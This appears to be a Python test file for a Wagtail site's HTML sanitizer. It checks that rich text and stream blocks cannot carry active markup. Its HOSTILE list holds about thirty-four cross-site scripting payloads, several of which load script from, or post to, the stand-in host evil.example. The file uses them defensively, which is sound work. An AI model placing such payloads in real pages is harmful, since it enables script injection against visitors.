"""Whatever is typed or pasted, nothing that acts reaches the database."""

import re

import pytest
from django.apps import apps
from hypothesis import given
from hypothesis import strategies as st
from wagtail import blocks
from wagtail.fields import RichTextField, StreamField

from ui.blocks import TextBlock
from ui.fields import CleanRichTextField
from ui.sanitize import clean_html, clean_text

HOSTILE = [
    "<script>alert(1)</script>",
    "<p>a<script>alert(1)</p>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<svg onload=alert(1)>",
    "<svg><g/onload=alert(2)//<p>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<img src=x onerror=alert(1)>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\u200bscript:alert(1)">x</a>',
    '<a href="\u200bjavascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="https://example.org" onclick="alert(1)" style="position:fixed">x</a>',
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name="cccd"><button formaction="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p id=x tabindex=1 onfocus=alert(1)>x",
    "<<p>script>alert(1)<</p>/script>",
]  # fmt: skip
TAG = re.compile(r"<\s*/?\s*([a-z0-9]+)([^>]*)>", re.IGNORECASE)
ALLOWED = {"a", "b", "strong", "i", "em", "p", "br", "ul", "ol", "li", "h2", "h3", "h4", "sup", "sub", "blockquote"} | {
    "embed"
}


def acts(markup):
    """Everything in clean markup that could act: unknown tags, handlers and sources, schemes besides the harmless."""
    for name, attributes in TAG.findall(markup):
        if name.lower() not in ALLOWED | {"embed"} or re.search(
            r"\b(on\w+|style|src|srcdoc|formaction)\s*=", attributes
        ):
            yield name, attributes
        for href in re.findall(r'href="([^"]*)"', attributes):
            if not href.startswith(("http://", "https://", "mailto:", "tel:")):
                yield name, href


@pytest.mark.parametrize("markup", HOSTILE)
def test_nothing_hostile_survives_in_rich_text(markup):
    assert not list(acts(clean_html(markup)))


@pytest.mark.parametrize("markup", HOSTILE)
def test_cleaning_twice_changes_nothing(markup):
    assert clean_html(clean_html(markup)) == clean_html(markup)


@pytest.mark.parametrize("markup", HOSTILE)
def test_plain_text_keeps_no_tag(markup):
    assert not TAG.search(clean_text(markup))


@given(st.text(alphabet="<>/ap&;lt!-'\"= script", max_size=40))
def test_cleaning_plain_text_comes_to_an_end(text):
    assert clean_text(clean_text(text)) == clean_text(text)


@pytest.mark.parametrize(
    "markup",
    [
        "<p>Mở <b>VNeID</b>, <i>từng bước</i></p>",
        '<p><a href="https://dichvucong.gov.vn">Cổng</a></p>',
        '<p><a linktype="page" id="3">Bài sau</a></p>',
        "<ul><li>Ê̆ Ô̆ Ơ̆ Ư̆</li></ul>",
        '<p><a href="tel:156">156</a></p>',
    ],
)
def test_what_trainers_write_is_kept(markup):
    assert clean_html(markup) == markup


def test_words_that_look_like_arithmetic_stay_words():
    assert clean_text("2 < 3 & 4 > 1") == "2 < 3 & 4 > 1"


def test_no_field_takes_rich_text_past_the_cleaner():
    fields = [field for model in ours() for field in model._meta.get_fields() if isinstance(field, RichTextField)]
    assert all(isinstance(field, CleanRichTextField) for field in fields)


def test_no_block_takes_markup_past_the_cleaner():
    fields = [field for model in ours() for field in model._meta.get_fields() if isinstance(field, StreamField)]
    found = [block for field in fields for block in walk(field.stream_block)]
    assert fields and any(isinstance(block, TextBlock) for block in found)
    assert not [block for block in found if isinstance(block, blocks.RawHTMLBlock)]
    assert all(isinstance(b, TextBlock) for b in found if isinstance(b, blocks.RichTextBlock))


def ours():
    parts = {
        "accounts",
        "certificates",
        "communes",
        "courses",
        "learners",
        "pages",
        "quizzes",
        "records",
        "reports",
        "ui",
    }
    return [model for model in apps.get_models() if model._meta.app_label in parts]


def walk(block):
    yield block
    children = list(getattr(block, "child_blocks", {}).values())
    for child in [*children, *filter(None, [getattr(block, "child_block", None)])]:
        yield from walk(child)
